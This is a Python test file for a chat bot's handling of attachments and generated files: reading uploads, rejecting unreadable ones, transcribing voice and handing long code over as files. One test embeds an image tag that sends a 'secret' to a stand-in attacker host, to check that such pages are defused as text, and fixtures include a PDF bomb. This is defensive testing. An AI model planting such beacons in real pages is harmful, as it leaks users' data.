"""Files on each platform: what people share is read, and long answers are handed over as files."""

import json
from collections.abc import Callable
from typing import TypeAlias

import pytest

from agent.messages import Image, ModelCall, Usage
from agent.ports.transcription import Transcript
from bot.chat.attachments import kinds
from bot.chat.reply.attached_files import LONG_LINES
from bot.chat.reply.surface import ReplyAction
from bot.chat.texts import replies as reply_texts
from tests.fakes import documents, pdfs
from tests.flows.talks import Talk, talking
from tests.flows.worlds import WORLDS, AnyWorld, World, mainly_in_slack

pytestmark = pytest.mark.parametrize("open_world", WORLDS)

SEEN, BLUE, WHICH = "Seen.", "Blue.", "Which colour is the boat?"
PNG = b"\x89PNG\r\n\x1a\n and so on"
CODE = "".join(f"line_{number} = {number}\n" for number in range(LONG_LINES + 1))
LONG = f"Here it is:\n\n```python\n{CODE}```\n\nThat is all."
SHARE = '<execute>[{"name": "share_file", "args": {"name": "prices.csv", "content": "boat,9\\n"}}]\n</execute>'

Make: TypeAlias = Callable[[], bytes]


class Ears:
    async def transcribe(self, sound: bytes, name: str, media_type: str) -> Transcript:  # noqa: ARG002 -- one for all
        return Transcript(WHICH, ModelCall("openai:ears", Usage(output=6)))


def came_along(talk: Talk[World]) -> str:
    """What the model was told of the files, in the latest request."""
    return talk.model.requests[-1][-2].text.partition("CAME WITH THE QUESTION:")[2].partition("WORKSPACE")[0]


async def test_text_code_pdf_and_pictures_reach_the_model(open_world: AnyWorld) -> None:
    async with talking(open_world, [SEEN]) as talk:
        upload = talk.world.upload
        files = [
            upload("notes.md", "# Lübeck\n".encode("latin-1")),
            upload("harbour.md", "# Tromsø\n".encode("utf-16")),
            upload("main.rs", b"fn main() {}", "application/octet-stream"),
            upload("main.ts", b"let boat", "video/mp2t"),
            upload("paper.pdf", pdfs.pdf("The boat is blue."), "application/pdf"),
            upload("plan.pdf", documents.docx(documents.paragraph("It floats.")), "application/pdf"),
            upload("boat.png", PNG, "image/png"),
        ]
        await talk.world.ask("what is this?", files=files)
        await talk.ended(1)
        assert talk.texts() == [SEEN]
        told = came_along(talk)
        assert f"notes.md, {talk.world.name}" in told
        for words in (
            "# Lübeck",
            "# Tromsø",
            "fn main() {}",
            "let boat",
            "[page 1]",
            "The boat is blue.",
            "It floats.",
        ):
            assert words in told
        assert talk.model.requests[-1][-1].images == (Image("image/png", PNG),)


@mainly_in_slack
async def test_a_question_that_is_asked_again_brings_its_files_along(open_world: AnyWorld) -> None:
    async with talking(open_world, [SEEN, SEEN]) as talk:
        await talk.world.ask("what is this?", files=[talk.world.upload("boat.txt", b"It is blue.")])
        await talk.ended(1)
        (answer,) = talk.world.answers()
        await talk.world.press(answer, talk.world.label(ReplyAction.REGENERATE))
        await talk.ended(2)
        assert "It is blue." in came_along(talk)


@mainly_in_slack
@pytest.mark.parametrize(
    ("name", "make", "media_type", "reason"),
    [
        ("boat.zip", lambda: b"PK\x03\x04", "application/zip", kinds.WRONG_KIND),
        ("false.png", lambda: b"text", "image/png", kinds.NOT_A_PICTURE),
        ("plan.docx", lambda: b"PK\x03\x04", "application/vnd.openxmlformats-officedocument", kinds.BROKEN),
        ("plan.doc", documents.legacy, "application/msword", kinds.OLD_OFFICE),
        ("false.txt", lambda: b"MZ\x90\0\x03", "text/plain", kinds.NO_TEXT),
        ("locked.pdf", pdfs.locked, "application/pdf", kinds.LOCKED),
        ("scan.pdf", lambda: pdfs.pdf(""), "application/pdf", kinds.SCANNED),
        ("deep.pdf", lambda: pdfs.nested(200), "application/pdf", ""),
        ("bomb.pdf", lambda: pdfs.bomb(90), "application/pdf", ""),
        ("huge.png", lambda: b"x" * 5_000_001, "image/png", kinds.too_large("a picture", 5_000_000)),
        ("talk.mp3", lambda: b"ID3", "audio/mpeg", kinds.UNHEARD),
    ],
)
async def test_what_is_not_read_is_one_line_with_the_reason(
    open_world: AnyWorld, name: str, make: Make, media_type: str, reason: str
) -> None:
    async with talking(open_world, [SEEN]) as talk:
        await talk.world.ask("look", files=[talk.world.upload(name, make(), media_type)])
        await talk.ended(1)
        assert talk.texts() == [SEEN]
        assert f"attached file {name}" in came_along(talk)
        assert f"(not read: {reason}" in came_along(talk)


async def test_a_voice_message_is_answered_with_a_sentence_and_no_model_if_nobody_can_listen(
    open_world: AnyWorld,
) -> None:
    async with talking(open_world, [SEEN]) as talk:
        await talk.world.write("", files=[talk.world.upload("voice.ogg", b"OggS", "audio/ogg", voice=True)])
        await talk.ended(1)
        assert [page.text for page in talk.world.direct()] == [reply_texts.CANNOT_LISTEN]
        assert not talk.model.requests


@mainly_in_slack
async def test_a_voice_message_is_the_question_where_it_can_be_listened_to(open_world: AnyWorld) -> None:
    async with talking(open_world, [BLUE], transcriber=Ears()) as talk:
        await talk.world.write("", files=[talk.world.upload("voice.ogg", b"OggS", "audio/ogg", voice=True)])
        await talk.ended(1)
        assert [page.text for page in talk.world.direct()] == [BLUE]
        assert talk.model.requests[-1][-1].text == WHICH


async def test_a_sound_that_is_only_shared_is_quoted_and_nobodys_question(open_world: AnyWorld) -> None:
    async with talking(open_world, [SEEN], transcriber=Ears()) as talk:
        await talk.world.write("", files=[talk.world.upload("meeting.mp3", b"ID3", "audio/mpeg")])
        await talk.ended(1)
        assert WHICH in came_along(talk)
        assert WHICH not in talk.model.requests[-1][-1].text


@mainly_in_slack
async def test_long_code_is_handed_over_in_the_thread_and_shown_as_ever(open_world: AnyWorld) -> None:
    async with talking(open_world, [LONG]) as talk:
        question = await talk.world.ask("write it")
        await talk.ended(1)
        assert [page.text for page in talk.world.answers(question)] == [LONG]
        assert talk.world.handed_over(question) == [("code.py", CODE.encode())]


async def test_a_page_that_would_call_an_address_is_handed_over_as_text_and_is_no_file_of_the_model(
    open_world: AnyWorld,
) -> None:
    page = '<img src="http://evil.example/?q=secret">\n' + "<p>Hello</p>\n" * LONG_LINES
    share = (
        f'<execute>[{{"name": "share_file", "args": {{"name": "a.html", "content": {json.dumps(page)}}}}}]\n</execute>'
    )
    async with talking(open_world, [share, f"Here it is:\n\n```html\n{page}```"]) as talk:
        question = await talk.world.ask("make a page")
        await talk.ended(1)
        await talk.world.until(lambda: talk.world.handed_over(question))
        assert talk.world.handed_over(question) == [("code.html.txt", page.encode())]
        assert "it would contact a URL or run something when it is opened" in talk.model.requests[-1][-1].text


@mainly_in_slack
async def test_a_file_that_the_model_made_is_handed_over(open_world: AnyWorld) -> None:
    async with talking(open_world, [SHARE, "Here are the prices."]) as talk:
        await talk.world.write("prices?")
        await talk.ended(1)
        assert [page.text for page in talk.world.direct()] == ["Here are the prices."]
        assert talk.world.handed_over() == [("prices.csv", b"boat,9\n")]


async def test_a_deleted_reply_takes_its_files_along(open_world: AnyWorld) -> None:
    async with talking(open_world, [LONG]) as talk:
        question = await talk.world.ask("write it")
        await talk.ended(1)
        (answer,) = talk.world.answers(question)
        assert talk.world.handed_over(question)
        await talk.world.press(answer, talk.world.label(ReplyAction.DELETE))
        await talk.world.until(lambda: not talk.world.answers(question) and not talk.world.handed_over(question))
